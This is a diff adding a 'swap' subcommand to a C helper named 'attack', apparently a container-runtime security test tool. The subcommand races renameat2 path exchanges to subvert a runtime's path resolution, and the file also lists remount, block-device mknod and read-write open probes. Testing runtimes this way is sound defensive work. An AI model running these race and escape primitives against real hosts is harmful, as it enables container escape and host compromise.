@@ -15,6 +15,10 @@
  *   attack remount PATH      remount PATH read-write (MS_REMOUNT|MS_BIND)
  *   attack mknod PATH        mknod a block device 8:0 at PATH, then open it
  *   attack open PATH         open PATH read-write
+ *   attack swap A B STOP     exchange A and B (renameat2 RENAME_EXCHANGE)
+ *                            as fast as it can until the file STOP exists,
+ *                            then print "swaps: N" (run on the host, against
+ *                            a rootfs, to race a runtime's path resolution)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -141,6 +145,22 @@ static int exe_scan(dev_t dev, ino_t ino, int secs)
 	return 0;
 }
 
+static int swap(const char *a, const char *b, const char *stop)
+{
+	unsigned long n = 0, failed = 0;
+
+	while (access(stop, F_OK) < 0) {
+		for (int i = 0; i < 256; i++) {
+			if (renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE) < 0)
+				failed++;
+			else
+				n++;
+		}
+	}
+	printf("swaps: %lu\nfailed: %lu\n", n, failed);
+	return 0;
+}
+
 int main(int argc, char **argv)
 {
 	setvbuf(stdout, NULL, _IOLBF, 0);
@@ -149,6 +169,8 @@ int main(int argc, char **argv)
 	if (argc == 5 && strcmp(argv[1], "exe-scan") == 0)
 		return exe_scan((dev_t)strtoull(argv[2], NULL, 0), (ino_t)strtoull(argv[3], NULL, 0),
 				atoi(argv[4]));
+	if (argc == 5 && strcmp(argv[1], "swap") == 0)
+		return swap(argv[2], argv[3], argv[4]);
 	if (argc == 3 && strcmp(argv[1], "remount") == 0) {
 		int r = mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL);
 		printf("remount %s: %s\n", argv[2], r < 0 ? strerrorname_np(errno) : "DONE");
@@ -167,6 +189,6 @@ int main(int argc, char **argv)
 		return 0;
 	}
 	fprintf(stderr, "usage: attack exe-hold PID | exe-scan DEV INO SECS | remount PATH | "
-			"mknod PATH | open PATH\n");
+			"mknod PATH | open PATH | swap A B STOP\n");
 	return 2;
 }
